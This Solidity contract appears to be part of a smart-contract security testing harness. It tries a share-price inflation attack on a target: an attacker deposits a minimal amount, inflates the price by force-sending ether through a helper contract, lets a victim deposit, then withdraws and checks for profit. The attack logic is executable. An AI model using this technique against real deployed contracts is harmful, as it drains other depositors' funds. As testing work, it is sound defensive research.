/// The attacker buys next to nothing, drives the price up by a gift, and sells after others have bought. Harm is done
/// if the attacker is richer than before: the difference is theirs.
abstract contract Inflation is World {
    function _attack() internal override returns (string memory) {
        Step[] memory strikes = _strikes(); // ways to get out
        Step[] memory moves = _moves(); // ways to get in; the value is the others' stake
        bool reached;
        uint256 start = vm.snapshotState();
        for (uint256 m = 0; m < moves.length; m++) {
            for (uint256 a = 0; a < strikes.length; a++) {
                for (uint256 gift = 0; gift < 3; gift++) {
                    vm.deal(mallory, 80 ether);
                    if (!_do(mallory, 1, moves[m].data)) break;
                    uint256 given = gift == 0 ? moves[m].value + 1 : gift == 1 ? moves[m].value / 2 + 1 : 10 ether;
                    _give(given);
                    bool joined = _do(alice, moves[m].value, moves[m].data);
                    bool left = _do(mallory, 0, strikes[a].data);
                    uint256 rest = mallory.balance;
                    vm.revertToState(start);
                    if (joined && left && rest > 80 ether) return _said("confirmed", 0, a, m);
                    reached = reached || left;
                }
            }
        }
        return reached ? "held" : "open: nobody could get in and out";
    }

    function _give(uint256 value) private {
        vm.deal(mallory, mallory.balance - value);
        vm.deal(address(this), value);
        new Forced{value: value}(payable(target));
    }
}
